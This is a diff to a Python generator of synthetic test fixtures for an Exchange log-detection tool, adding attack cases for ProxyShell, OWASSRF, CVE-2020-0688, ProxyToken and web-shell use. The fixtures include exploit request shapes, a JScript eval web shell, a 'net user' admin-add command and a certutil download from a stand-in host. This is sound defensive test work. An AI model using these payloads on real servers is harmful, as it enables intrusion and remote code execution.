@@ -131,10 +131,35 @@ UA_EDGE_2023 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
 UA_FIREFOX_2023 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:108.0) Gecko/20100101 Firefox/108.0"
 UA_EWS_GOOD = "ExchangeServicesClient/15.00.0913.015"
 
+UA_OUTLOOK_2020 = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.12527; Pro)"
+UA_EDGE_2020 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
+                "(KHTML, like Gecko) Chrome/80.0.3987.122 Safari/537.36 Edg/80.0.361.62")
+UA_FIREFOX_2020 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:73.0) Gecko/20100101 Firefox/73.0"
+UA_OUTLOOK_2022 = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.15601; Pro)"
+UA_EDGE_2022 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
+                "(KHTML, like Gecko) Chrome/106.0.0.0 Safari/537.36 Edg/106.0.1370.52")
+UA_FIREFOX_2022 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:105.0) Gecko/20100101 Firefox/105.0"
+
 UAS = {
+    2020: {"outlook": UA_OUTLOOK_2020, "edge": UA_EDGE_2020, "firefox": UA_FIREFOX_2020},
     2021: {"outlook": UA_OUTLOOK_2021, "edge": UA_EDGE_2021, "firefox": UA_FIREFOX_2021},
+    2022: {"outlook": UA_OUTLOOK_2022, "edge": UA_EDGE_2022, "firefox": UA_FIREFOX_2022},
     2023: {"outlook": UA_OUTLOOK_2023, "edge": UA_EDGE_2023, "firefox": UA_FIREFOX_2023},
 }
+
+# Attackers and scanners of the later chains (IIS cases). None of these is in
+# data/ioc-uas.tsv, so a finding in those cases never comes from the user agent alone.
+UA_CHROME80 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
+               "(KHTML, like Gecko) Chrome/80.0.3987.116 Safari/537.36")
+UA_CHROME92 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
+               "(KHTML, like Gecko) Chrome/92.0.4515.131 Safari/537.36")
+UA_CHROME105 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
+                "(KHTML, like Gecko) Chrome/105.0.5195.54 Safari/537.36")
+UA_PYREQ_26 = "python-requests/2.26.0"
+UA_CURL = "curl/7.79.1"
+UA_NUCLEI = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
+UA_OUTLOOK_IOS = "Outlook-iOS/709.2226530.prod.iphone (3.24.1)"
+UA_WINRM = "Microsoft WinRM Client"
 
 # name, client IP, SID
 USERS = [
@@ -497,43 +522,64 @@ def oab_file(root, day, build, entries, eol=CRLF):
     return write(rel, join_lines(lines, eol=eol))
 
 
-def rps_file(root, hour, build, key, year=2021, eol=CRLF):
+def rps_row(ts, build, key, i, r, **kw):
+    """One Rps_Http row as a dict: an administrator's remote PowerShell command from the
+    Exchange Management Shell; kw overrides (unknown names fail). r is the caller's rng,
+    drawn from in a fixed order."""
     maj, mnr, bld, rev = build_parts(build)
+    v = {f: "" for f in RPS_FIELDS}
+    v.update({
+        "DateTime": ts, "StartTime": ts, "RequestId": guid("%s:%d:rq" % (key, i)),
+        "MajorVersion": maj, "MinorVersion": mnr, "BuildVersion": bld, "RevisionVersion": rev,
+        "ClientRequestId": guid("%s:%d:crq" % (key, i)), "UrlHost": FQDN,
+        "UrlStem": "/powershell", "AuthenticationType": "Kerberos", "IsAuthenticated": "true",
+        "AuthenticatedUser": "CORP\\exadmin",
+        "Organization": "", "ClientIpAddress": "10.10.0.5",
+        "ServerHostName": SERVER, "FrontEndServer": FQDN, "HttpStatus": 200, "SubStatus": 0,
+        "Action": "Command", "CommandId": guid("%s:%d:cmd" % (key, i)).upper(),
+        "CommandName": "Get-Mailbox", "SessionId": guid("%s:sess" % key).upper(),
+        "ShellId": guid("%s:shell" % key).upper(), "FailFast": "False",
+        "ContributeToFailFast": "False", "RequestBytes": r.randint(800, 6000),
+        "ClientInfo": "Microsoft WinRM Client",
+        "CPU": r.randint(0, 60), "Memory": r.randint(1000, 9000),
+        "ActivityContextLifeTime": r.randint(10, 300), "TotalTime": r.randint(10, 300),
+        "UrlQuery": "?serializationLevel=Full;ExchClientVer=%s;clientApplication=ManagementShell;"
+                    "TargetServer=;PSVersion=5.1.14393.4046" % build_short(build),
+    })
+    for k, val in kw.items():
+        if k not in v:
+            raise KeyError("unknown Rps_Http field " + k)
+        v[k] = val
+    return v
+
+
+def rps_write(root, hour, build, rows, eol=CRLF):
+    """Write <root>/<LOGS>/CmdletInfra/Powershell-Proxy/Http/Rps_Http_<hour>-1.LOG."""
+    lines = [",".join(RPS_FIELDS),
+             "#Software: Microsoft Exchange Server",
+             "#Version: " + build,
+             "#Log-type: Rps Http Logs",
+             "#Date: " + date_hdr(hour),
+             "#Fields: " + ",".join(RPS_FIELDS)]
+    lines += [csv_line(v[f] for f in RPS_FIELDS) for v in sorted(rows, key=lambda x: x["DateTime"])]
+    rel = "%s/%s/CmdletInfra/Powershell-Proxy/Http/Rps_Http_%s-1.LOG" % (root, LOGS, hour)
+    return write(rel, join_lines(lines, eol=eol))
+
+
+def rps_file(root, hour, build, key, year=2021, eol=CRLF):
+    """Four ordinary rows: three admin commands and one health-mailbox probe."""
     r = rng(key)
     rows = []
     cmds = ["Get-Mailbox", "Get-ExchangeServer", "Get-MailboxDatabase", "Get-OrganizationConfig"]
     for i, m in enumerate(sorted(r.sample(range(60), 4))):
         ts = "%s-%s-%sT%s:%02d:%02d.%03dZ" % (hour[0:4], hour[4:6], hour[6:8], hour[8:10], m,
                                               r.randint(0, 59), r.randint(0, 999))
-        probe = i == 3
-        v = {f: "" for f in RPS_FIELDS}
-        v.update({
-            "DateTime": ts, "StartTime": ts, "RequestId": guid("%s:%d:rq" % (key, i)),
-            "MajorVersion": maj, "MinorVersion": mnr, "BuildVersion": bld, "RevisionVersion": rev,
-            "ClientRequestId": guid("%s:%d:crq" % (key, i)), "UrlHost": FQDN,
-            "UrlStem": "/powershell", "AuthenticationType": "Kerberos", "IsAuthenticated": "true",
-            "AuthenticatedUser": "CORP\\HealthMailbox0a1b2c3" if probe else "CORP\\exadmin",
-            "Organization": "", "ClientIpAddress": "10.10.0.25" if probe else "10.10.0.5",
-            "ServerHostName": SERVER, "FrontEndServer": FQDN, "HttpStatus": 200, "SubStatus": 0,
-            "Action": "Command", "CommandId": guid("%s:%d:cmd" % (key, i)).upper(),
-            "CommandName": cmds[i], "SessionId": guid("%s:sess" % key).upper(),
-            "ShellId": guid("%s:shell" % key).upper(), "FailFast": "False",
-            "ContributeToFailFast": "False", "RequestBytes": r.randint(800, 6000),
-            "ClientInfo": "Exchange BackEnd Probes" if probe else "Microsoft WinRM Client",
-            "CPU": r.randint(0, 60), "Memory": r.randint(1000, 9000),
-            "ActivityContextLifeTime": r.randint(10, 300), "TotalTime": r.randint(10, 300),
-            "UrlQuery": "?serializationLevel=Full;ExchClientVer=%s;clientApplication=ManagementShell;"
-                        "TargetServer=;PSVersion=5.1.14393.4046" % build_short(build),
-        })
-        rows.append(csv_line(v[f] for f in RPS_FIELDS))
-    lines = [",".join(RPS_FIELDS),
-             "#Software: Microsoft Exchange Server",
-             "#Version: " + build,
-             "#Log-type: Rps Http Logs",
-             "#Date: " + date_hdr(hour),
-             "#Fields: " + ",".join(RPS_FIELDS)] + rows
-    rel = "%s/%s/CmdletInfra/Powershell-Proxy/Http/Rps_Http_%s-1.LOG" % (root, LOGS, hour)
-    return write(rel, join_lines(lines, eol=eol))
+        kw = {"CommandName": cmds[i]}
+        if i == 3:
+            kw.update(AuthenticatedUser="CORP\\HealthMailbox0a1b2c3", ClientIpAddress="10.10.0.25",
+                      ClientInfo="Exchange BackEnd Probes")
+        rows.append(rps_row(ts, build, key, i, r, **kw))
+    return rps_write(root, hour, build, rows, eol=eol)
 
 
 def iis_line(ts, method, stem, query, user, ip, ua, status, taken, sub=0, win32=0, port=443,
@@ -544,12 +590,14 @@ def iis_line(ts, method, stem, query, user, ip, ua, status, taken, sub=0, win32=
                      enc(referer), str(status), str(sub), str(win32), str(taken)])
 
 
-def iis_file(root, day6, entries, date_line):
+def iis_file(root, day6, entries, date_line, site=1):
+    """Write <root>/inetpub/logs/LogFiles/W3SVC<site>/u_ex<day6>.log (1 = Default Web Site,
+    the front end on 443; 2 = Exchange Back End on 444)."""
     lines = ["#Software: Microsoft Internet Information Services 10.0",
              "#Version: 1.0",
              "#Date: " + date_line,
              "#Fields: " + IIS_FIELDS] + [iis_line(*e) for e in sorted(entries)]
-    rel = "%s/inetpub/logs/LogFiles/W3SVC1/u_ex%s.log" % (root, day6)
+    rel = "%s/inetpub/logs/LogFiles/W3SVC%d/u_ex%s.log" % (root, site, day6)
     return write(rel, join_lines(lines, bom=False))
 
 
@@ -571,6 +619,34 @@ def iis_benign(day, year):
         (d + " 07:10:26", "GET", "/ecp/", "", "CORP\\exadmin", "10.10.0.5", ua["edge"], 200, 230),
         (d + " 09:31:02", "POST", "/Autodiscover/Autodiscover.xml", "", "CORP\\dave",
          "192.168.50.12", ua["outlook"], 200, 21),
+    ]
+
+
+def req(ts, method, stem, query, user, ip, ua, status, taken, port=443, referer="-"):
+    """One IIS entry for iis_file (ts = 'YYYY-MM-DD HH:MM:SS'), with the sc-substatus and
+    sc-win32-status IIS writes for the status (404: 0 2, the file was not found)."""
+    sub, win32 = (0, 2) if status == 404 else (0, 0)
+    return (ts, method, stem, query, user, ip, ua, status, taken, sub, win32, port, referer)
+
+
+def iis_write(root, entries, site=1):
+    """One day's W3C log; the file's day and its #Date line come from the earliest entry."""
+    first = min(entries)[0]
+    return iis_file(root, first[2:4] + first[5:7] + first[8:10], entries, first, site=site)
+
+
+def iis_backend_benign(day, year):
+    """Exchange Back End (W3SVC2, port 444) rows: the front end proxying the requests of
+    iis_benign, so the client address is the server itself."""
+    ua = UAS[year]
+    d = day
+    return [
+        req(d + " 00:03:12", "POST", "/owa/service.svc", "action=GetFolderMailboxId&EP=1&ID=-1&AC=1",
+            "CORP\\alice", SERVER_IP, ua["edge"], 200, 31, port=444),
+        req(d + " 01:20:40", "POST", "/mapi/emsmdb/", "MailboxId=%s@corp.example.com"
+            % guid("mailbox:bob"), "CORP\\bob", SERVER_IP, ua["outlook"], 200, 22, port=444),
+        req(d + " 03:44:51", "POST", "/EWS/Exchange.asmx", "", "CORP\\carol", SERVER_IP,
+            ua["outlook"], 200, 48, port=444),
     ]
 
 
@@ -2029,6 +2105,353 @@ def gen_e2e_files():
 
 
 # --------------------------------------------------------------------------------------
+# D. end-to-end cases: the later chains in IIS W3C and Rps_Http logs
+# --------------------------------------------------------------------------------------
+# Request shapes follow the project notes (exchange-detection.md, the ProxyShell,
+# ProxyNotShell, OWASSRF, CVE-2020-0688 and ProxyToken sections); every value below was
+# made up for these fixtures. Attackers are on 203.0.113.0/24 and 198.51.100.0/24, each
+# case with its own address so that a finding can be traced back to its row.
+
+EVIL = "evil.example"
+AUTODISCOVER_JSON = "/autodiscover/autodiscover.json"
+PS_EMAIL = "&Email=autodiscover/autodiscover.json%3F@" + EVIL
+# the CommonAccessToken: version 1, Windows, Kerberos, admin@corp.example (synthetic)
+PS_RPS_CAT = "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBFhZG1pbkBjb3JwLmV4YW1wbGU="
+PS_Q_NSPI = "@%s/mapi/nspi/?%s" % (EVIL, PS_EMAIL)
+PS_Q_RPS = "@%s/powershell/?X-Rps-CAT=%s%s" % (EVIL, PS_RPS_CAT, PS_EMAIL)
+PS_Q_EWS = "@%s/EWS/exchange.asmx?%s" % (EVIL, PS_EMAIL)
+PNS_Q = "@%s/powershell/" % EVIL
+OWASSRF_STEM = "/owa/mastermailbox@outlook.com/powershell"
+UA_PYREQ_28 = "python-requests/2.28.1"
+UA_FIREFOX_LINUX = "Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0"
+
+# the ws-eval-jscript one-liner with another parameter name (iis-shell-used)
+LGX_SHELL = '<%@ Page Language="Jscript"%><%eval(Request.Item["zz"],"unsafe");%>'
+
+
+def ecp_canary(key):
+    """An msExchEcpCanary value: 76 base64url characters and a final dot, like ECP's."""
+    import base64
+    raw = hashlib.sha256((key + ":1").encode()).digest() + hashlib.sha256((key + ":2").encode()).digest()
+    return base64.urlsafe_b64encode(raw[:57]).decode("ascii") + "."
+
+
+def viewstate_query(key):
+    """__VIEWSTATEGENERATOR + __VIEWSTATE as CVE-2020-0688 requests carry them: the
+    LosFormatter marker (ff 01 32), a 772-byte BinaryFormatter stream that starts with
+    the serialization header and goes on with filler (no gadget), base64, URL-encoded."""
+    import base64
+    body = b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00"
+    body += byte_stream(key, 772 - len(body), avoid=b"")
+    blob = b"\xff\x01\x32" + bytes([0x80 | (772 & 0x7F), 772 >> 7]) + body
+    b64 = base64.b64encode(blob).decode("ascii")
+    enc = b64.replace("+", "%2B").replace("/", "%2F").replace("=", "%3D")
+    assert enc.startswith("%2FwEyhAYAAQAAAP")
+    return "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=" + enc
+
+
+W3C_F2 = ("date time s-sitename s-ip cs-method cs-uri-stem cs-uri-query s-port c-ip cs-username "
+          "cs(User-Agent) cs(Referer) cs-host sc-status sc-substatus sc-win32-status time-taken")
+W3C_F3 = "date time c-ip cs-method cs-uri-stem cs-uri-query sc-status"
+
+
+def w3c_row(fields, e):
+    """An entry (as iis_line takes it) written for any #Fields list (iis_line is the
+    default set)."""
+    e = tuple(e) + (0, 0, 443, "-")[len(e) - 9:]
+    ts, method, stem, query, user, ip, ua, status, taken, sub, win32, port, referer = e
+    enc = lambda s: "-" if not s else s.replace(" ", "+")  # noqa: E731
+    v = {"date": ts[:10], "time": ts[11:], "s-sitename": "W3SVC1", "s-ip": SERVER_IP,
+         "cs-method": method, "cs-uri-stem": stem, "cs-uri-query": enc(query),
+         "s-port": str(port), "cs-username": enc(user), "c-ip": ip, "cs(User-Agent)": enc(ua),
+         "cs(Referer)": enc(referer), "cs-host": URLHOST, "sc-status": str(status),
+         "sc-substatus": str(sub), "sc-win32-status": str(win32), "time-taken": str(taken)}
+    return " ".join(v[f] for f in fields.split())
+
+
+def rps_case_rows(name, build, day, extra):
+    """Ordinary Rps_Http rows for 11h of the day (two admin commands, a health probe),
+    plus extra: [(ts, overrides)]."""
+    r = rng("e2e:" + name)
+    rows = [
+        rps_row(day + "T11:02:14.220Z", build, name, 0, r, CommandName="Get-Mailbox"),
+        rps_row(day + "T11:19:40.507Z", build, name, 1, r, CommandName="Get-ExchangeServer"),
+        rps_row(day + "T11:31:08.913Z", build, name, 2, r, CommandName="Get-MailboxDatabase",
+                AuthenticatedUser="CORP\\HealthMailbox0a1b2c3", ClientIpAddress=SERVER_IP,
+                ClientInfo="Exchange BackEnd Probes"),
+    ]
+    for i, (ts, kw) in enumerate(extra):
+        rows.append(rps_row(day + "T" + ts, build, name + ":x", 3 + i, r, **kw))
+    return rows
+
+
+def gen_e2e_iis():
+    """Cases for the chains after ProxyLogon, in IIS W3C logs and Rps_Http."""
+    P = BUILD_PATCHED
+
+    # --- ProxyShell, August 2021 ---------------------------------------------------------
+    d = "2021-08-23"
+    e = iis_benign(d, 2021)
+    e.append(req(d + " 02:41:07", "POST", AUTODISCOVER_JSON, PS_Q_NSPI, "", "203.0.113.11",
+                 UA_PYREQ_26, 401, 15))
+    iis_write(case("iis-proxyshell-attempt"), e)
+
+    e = iis_benign(d, 2021)
+    e.append(req(d + " 02:43:10", "GET", AUTODISCOVER_JSON, PS_Q_RPS, "", "203.0.113.12",
+                 UA_CHROME92, 200, 1873))
+    e.append(req(d + " 02:44:02", "GET", AUTODISCOVER_JSON, PS_Q_EWS, "", "203.0.113.12",
+                 UA_CHROME92, 302, 36))
+    iis_write(case("iis-proxyshell-exploit"), e)
+
+    # Autodiscover v2: a mailbox address after '@' in the path, but no back-end path
+    e = iis_benign(d, 2021)
+    for ts, who, ip, ua, q in [
+            ("06:12:44", "alice", "10.1.2.3", UA_OUTLOOK_IOS, "Protocol=ActiveSync&RedirectCount=1"),
+            ("06:12:45", "alice", "10.1.2.3", UA_OUTLOOK_IOS, "Protocol=Ews&RedirectCount=1"),
+            ("08:30:19", "bob", "10.10.1.34", UAS[2021]["outlook"], "Protocol=Ews&RedirectCount=1"),
+            ("08:30:20", "bob", "10.10.1.34", UAS[2021]["outlook"],
+             "Protocol=AutodiscoverV1&RedirectCount=1")]:
+        e.append(req(d + " " + ts, "GET", AUTODISCOVER_JSON + "/v1.0/%s@corp.example.com" % who,
+                     q, "", ip, ua, 200, 46))
+    iis_write(case("iis-proxyshell-near"), e)
+
+    # --- ProxyNotShell, October 2022: the same shape, authenticated, to /powershell --------
+    d = "2022-10-03"
+    for name, status, taken in (("iis-proxynotshell-attempt", 401, 22),
+                                ("iis-proxynotshell-exploit", 200, 2391)):
+        e = iis_benign(d, 2022)
+        e.append(req(d + " 03:17:52", "POST", AUTODISCOVER_JSON, PNS_Q, "CORP\\jdoe",
+                     "203.0.113.14", UA_PYREQ_28, status, taken))
+        iis_write(case(name), e)
+
+    # --- OWASSRF, December 2022 -------------------------------------------------------------
+    d = "2022-12-15"
+    for name, status, taken in (("iis-owassrf-exploit", 200, 3120),
+                                ("iis-owassrf-attempt", 401, 17)):
+        e = iis_benign(d, 2022)
+        e.append(req(d + " 11:05:58", "POST", "/owa/auth.owa", "", "", "203.0.113.61",
+                     UA_CHROME105, 302, 188))
+        e.append(req(d + " 11:06:31", "POST", OWASSRF_STEM, "", "CORP\\jdoe", "203.0.113.61",
+                     UA_CHROME105, status, taken))
+        iis_write(case(name), e)
+
+    # remote PowerShell the ordinary way: Kerberos over http://<server>/powershell (front
+    # end, port 80), proxied to the back end (444); and an OWA request
+    root = case("iis-owassrf-near")
+    rps_q = "clientApplication=ActiveMonitor;PSVersion=5.1"
+    e = iis_benign(d, 2022)
+    e.append(req(d + " 11:06:31", "POST", "/powershell", rps_q, "CORP\\admin", "10.0.0.9",
+                 UA_WINRM, 200, 640, port=80))
+    e.append(req(d + " 11:08:02", "POST", "/owa/service.svc", "action=GetItem&EP=1&ID=-41&AC=1",
+                 "CORP\\alice", "10.10.1.21", UAS[2022]["edge"], 200, 52))
+    iis_write(root, e)
+    e = iis_backend_benign(d, 2022)
+    e.append(req(d + " 11:06:31", "POST", "/powershell", rps_q, "CORP\\admin", SERVER_IP,
+                 UA_WINRM, 200, 611, port=444))
+    iis_write(root, e, site=2)
+
+    # --- OWASSRF's trace in Rps_Http: the attacker's user agent in ClientInfo --------------
+    day, hour = "2022-12-15", "2022121511"
+    owa_rps = dict(AuthenticatedUser="CORP\\jdoe", ClientIpAddress="203.0.113.61",
+                   ClientInfo=UA_CHROME105, UrlQuery="")
+    for name, status in (("rps-clientinfo-exploit", 200), ("rps-clientinfo-attempt", 500)):
+        rows = rps_case_rows(name, P, day, [("11:06:31.448Z", dict(owa_rps, HttpStatus=status))])
+        rps_write(case(name), hour, P, rows)
+    rows = rps_case_rows("rps-clientinfo-near", P, day, [
+        ("11:44:52.031Z", dict(ClientInfo="", CommandName="Get-ExchangeCertificate"))])
+    rps_write(case("rps-clientinfo-near"), hour, P, rows)
+
+    # --- CVE-2020-0688: ViewState in the query of an ECP page, March 2020 --------------------
+    d = "2020-03-02"
+    e = iis_benign(d, 2020)
+    e.append(req(d + " 04:26:40", "POST", "/owa/auth.owa", "", "", "203.0.113.71", UA_CHROME80,
+                 302, 201))
+    e.append(req(d + " 04:27:55", "GET", "/ecp/default.aspx", viewstate_query("cve-2020-0688"),
+                 "CORP\\jdoe", "203.0.113.71", UA_CHROME80, 500, 94))
+    iis_write(case("iis-cve-2020-0688"), e)
+
+    e = iis_benign(d, 2020)
+    e.append(req(d + " 04:27:55", "GET", "/ecp/default.aspx", "", "CORP\\exadmin", "10.10.0.5",
+                 UAS[2020]["edge"], 200, 412))
+    iis_write(case("iis-cve-2020-0688-near"), e)
+
+    # --- ProxyToken, August 2021 -----------------------------------------------------------
+    d = "2021-08-30"
+    stem = "/ecp/victim@corp.example.com/RulesEditor/InboxRules.svc/NewObject"
+    e = iis_benign(d, 2021)
+    e.append(req(d + " 05:52:13", "POST", stem, "SecurityToken=abc", "", "203.0.113.81",
+                 UA_PYREQ_26, 500, 61))
+    iis_write(case("iis-proxytoken"), e)
+
+    e = iis_benign(d, 2021)
+    e.append(req(d + " 05:52:13", "POST", stem, "msExchEcpCanary=" + ecp_canary("proxytoken-near"),
+                 "CORP\\exadmin", "10.10.0.5", UAS[2021]["edge"], 200, 188))
+    iis_write(case("iis-proxytoken-near"), e)
+
+    # --- ProxyLogon's request shapes in IIS, March 2021 --------------------------------------
+    d = "2021-03-03"
+    root = case("iis-proxylogon-shapes")
+    e = iis_benign(d, 2021)
+    for ts, stem, status, taken in [("02:11:05", "/ecp/y.js", 200, 180),
+                                    ("02:12:20", "/owa/auth/Current/themes/resources/logon.css",
+                                     200, 96),
+                                    ("02:13:02", "/ecp/default.flt", 500, 41)]:
+        e.append(req(d + " " + ts, "POST", stem, "", "", "203.0.113.31", UA_CHROME87, status, taken))
+    iis_write(root, e)
+    e = iis_backend_benign(d, 2021)
+    e.append(req(d + " 02:15:39", "POST", "/ecp/DDI/DDIService.svc/SetObject",
+                 "schema=ResetOABVirtualDirectory&msExchEcpCanary=" + ecp_canary("pl-shapes"),
+                 "EXCH01$", SERVER_IP, UA_CHROME87, 200, 1210, port=444))
+    iis_write(root, e, site=2)
+
+    # browsers GET the same static files; Microsoft's nmap script GETs /owa/auth/x.js
+    d = "2023-01-10"
+    e = iis_benign(d, 2023)
+    for ts, stem in [("08:14:03", "/owa/auth/15.1.2507/scripts/premium/flogon.js"),
+                     ("08:14:03", "/owa/auth/15.1.2507/themes/resources/favicon.ico"),
+                     ("08:14:04", "/owa/auth/Current/themes/resources/logon.css")]:
+        e.append(req(d + " " + ts, "GET", stem, "", "", "10.10.2.17", UAS[2023]["edge"], 200, 3))
+    e.append(req(d + " 10:14:22", "GET", "/owa/auth/x.js", "", "", "198.51.100.44", UA_NMAP, 500, 12))
+    iis_write(case("iis-proxylogon-shapes-near"), e)
+
+    # --- web-shell use in the logs, August 2021 ---------------------------------------------
+    d = "2021-08-24"
+    e = iis_benign(d, 2021)
+    e.append(req(d + " 03:05:11", "GET", "/aspnet_client/s.aspx", "cmd=whoami", "",
+                 "203.0.113.41", UA_CHROME92, 200, 88))
+    e.append(req(d + " 03:07:40", "POST", "/owa/auth/errorFS.aspx",
+                 "c=cmd+/c+net+user+admin+P%40ss+/add", "", "203.0.113.41", UA_CHROME92, 200, 1322))
+    e.append(req(d + " 03:12:09", "GET", "/aspnet_client/system_web/t.aspx",
+                 "z=certutil+-urlcache+-f+http://198.51.100.50/x.exe+c:\\windows\\temp\\x.exe", "",
+                 "203.0.113.42", UA_CURL, 200, 2750))
+    iis_write(case("iis-shell-commands"), e)
+
+    e = iis_benign(d, 2021)
+    e.append(req(d + " 09:40:16", "GET", "/search.aspx", "q=how+to+reset+my+password",
+                 "CORP\\alice", "10.10.1.21", UAS[2021]["edge"], 200, 140))
+    e.append(req(d + " 10:02:51", "GET", "/search.aspx", "q=windows+command+line+tips",
+                 "CORP\\bob", "10.10.1.34", UAS[2021]["firefox"], 200, 151))
+    iis_write(case("iis-shell-commands-near"), e)
+
+    d = "2021-03-05"
+    for name, status in (("iis-known-shell-name", 200), ("iis-known-shell-name-near", 404)):
+        e = iis_benign(d, 2021)
+        e.append(req(d + " 04:18:27", "POST", "/aspnet_client/discover.aspx", "", "",
+                     "203.0.113.51", UA_CHROME87, status, 412 if status == 200 else 2))
+        e.append(req(d + " 04:21:50", "POST", "/owa/auth/errorEE.aspx", "", "", "203.0.113.51",
+                     UA_CHROME87, status, 733 if status == 200 else 3))
+        iis_write(case(name), e)
+
+    # a shell on disk, and requests to its URL (or only to other pages)
+    d = "2021-08-26"
+    lgx = ASPNET_CLIENT + "/system_web/lgx.aspx"
+    root = case("iis-shell-used")
+    write(root + "/" + lgx, LGX_SHELL)
+    e = iis_benign(d, 2021)
+    for ts, status, taken in [("05:40:12", 200, 95), ("05:41:03", 200, 2210), ("05:44:37", 500, 31)]:
+        e.append(req(d + " " + ts, "POST", "/aspnet_client/system_web/lgx.aspx", "", "",
+                     "203.0.113.77", UA_CHROME92, status, taken))
+    e.append(req(d + " 07:02:19", "GET", "/aspnet_client/system_web/lgx.aspx", "", "",
+                 "198.51.100.20", UA_FIREFOX_LINUX, 404, 2))
+    iis_write(root, e)
+
+    root = case("iis-shell-used-near")
+    write(root + "/" + lgx, LGX_SHELL)
+    e = iis_benign(d, 2021)
+    e.append(req(d + " 07:02:19", "GET", "/aspnet_client/system_web/lg.aspx", "", "",
+                 "198.51.100.20", UA_FIREFOX_LINUX, 404, 2))
+    iis_write(root, e)
+
+    # --- one W3C file whose #Fields changes twice, with junk lines ---------------------------
+    d = "2021-08-25"
+    ben = iis_benign(d, 2021)
+    extra = [req(d + " 04:29:57", "GET", "/owa/", "", "CORP\\bob", "10.10.1.34",
+                 UAS[2021]["edge"], 200, 160),
+             req(d + " 05:12:30", "POST", "/mapi/emsmdb/", "MailboxId=%s@corp.example.com"
+                 % guid("mailbox:carol"), "CORP\\carol", "10.10.2.17", UAS[2021]["outlook"], 200, 27),
+             req(d + " 06:20:31", "GET", "/owa/", "", "CORP\\carol", "10.10.2.17",
+                 UAS[2021]["edge"], 200, 171),
+             req(d + " 10:47:12", "GET", "/ecp/", "", "CORP\\exadmin", "10.10.0.5",
+                 UAS[2021]["edge"], 200, 208),
+             req(d + " 06:21:15", "GET", "/owa/", "", "CORP\\dave", "192.168.50.12",
+                 UAS[2021]["firefox"], 200, 133)]
+    hit1 = req(d + " 02:22:40", "GET", AUTODISCOVER_JSON, PS_Q_RPS, "", "203.0.113.21",
+               UA_CHROME92, 200, 1910)
+    hit2 = req(d + " 05:48:19", "POST", AUTODISCOVER_JSON, PS_Q_EWS, "", "203.0.113.22",
+               UA_CHROME92, 200, 77)
+    hit3 = req(d + " 10:05:33", "POST", AUTODISCOVER_JSON, PS_Q_NSPI, "", "203.0.113.23",
+               UA_CHROME92, 200, 58)
+    assert w3c_row(IIS_FIELDS, hit1) == iis_line(*hit1)
+    sec1 = sorted([x for x in ben if x[0] < d + " 04"] + [hit1])
+    sec2 = sorted([x for x in ben if d + " 04" < x[0] < d + " 09"] + extra[1:3] + [hit2])
+    sec3 = sorted([x for x in ben if x[0] > d + " 09"] + [extra[3], hit3])
+    head = ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0"]
+    lines = head + ["#Date: " + sec1[0][0], "#Fields: " + IIS_FIELDS]
+    for x in sec1:
+        lines.append(w3c_row(IIS_FIELDS, x))
+        if x[0].endswith("01:20:40"):
+            lines.append("\x00\x01garbage")
+        if x[0].endswith("03:44:51"):
+            lines.append("")
+    cut = w3c_row(IIS_FIELDS, extra[0])
+    lines.append(cut[:cut.index("Win64")])         # the service stopped mid-row
+    lines += head + ["#Date: " + d + " 04:31:02", "#Fields: " + W3C_F2]
+    for x in sec2:
+        lines.append(w3c_row(W3C_F2, x))
+        if x[0].endswith("05:12:30"):
+            lines.append("-")
+        if x[0].endswith("06:20:31"):
+            wide = w3c_row(W3C_F2, extra[4]) + " -" * 23   # 17 fields and 23 more
+            assert len(wide.split(" ")) == 40
+            lines.append(wide)
+    lines.append("#Fields: " + W3C_F3)
+    lines += [w3c_row(W3C_F3, x) for x in sec3]
+    write(case("iis-fields-change") + "/inetpub/logs/LogFiles/W3SVC1/u_ex210825.log",
+          join_lines(lines, bom=False))
+
+    # --- scanners, internal sources ----------------------------------------------------------
+    d = "2022-12-20"
+    e = iis_benign(d, 2022)
+    e += [req(d + " 01:14:09", "GET", AUTODISCOVER_JSON, PS_Q_NSPI, "", "198.51.100.61",
+              UA_NUCLEI, 302, 14),
+          req(d + " 01:14:10", "POST", OWASSRF_STEM, "", "", "198.51.100.61", UA_NUCLEI, 401, 9),
+          req(d + " 06:51:37", "GET", AUTODISCOVER_JSON, "@%s/powershell/?%s" % (EVIL, PS_EMAIL),
+              "", "198.51.100.62", UA_ZGRAB, 401, 11),
+          req(d + " 06:51:38", "POST", OWASSRF_STEM, "", "", "198.51.100.62", UA_ZGRAB, 302, 10)]
+    iis_write(case("iis-scanner-noise"), e)
+
+    d = "2021-08-26"
+    e = iis_benign(d, 2021)
+    e += [req(d + " 02:30:11", "POST", AUTODISCOVER_JSON, PS_Q_NSPI, "", "10.20.30.40",
+              UA_CHROME92, 401, 13),
+          req(d + " 02:30:12", "GET", AUTODISCOVER_JSON, PS_Q_EWS, "", "10.20.30.40",
+              UA_CHROME92, 401, 12)]
+    iis_write(case("iis-internal-attempt"), e)
+
+    e = iis_benign(d, 2021)
+    e.append(req(d + " 02:31:40", "GET", AUTODISCOVER_JSON, PS_Q_RPS, "", "10.20.30.41",
+                 UA_CHROME92, 200, 1766))
+    iis_write(case("iis-internal-exploit"), e)
+
+    # --- a small story for --timeline: probe, ProxyShell, PST-shaped shell, shell used --------
+    d = "2021-08-27"
+    root = case("timeline-text", "scan -f text --color never --timeline input")
+    shell = chopper_script("qf").encode("ascii")
+    write(root + "/" + ASPNET_CLIENT + "/qfdmh.aspx",
+          pst_like("timeline-text", [(3072, shell)], 6144))
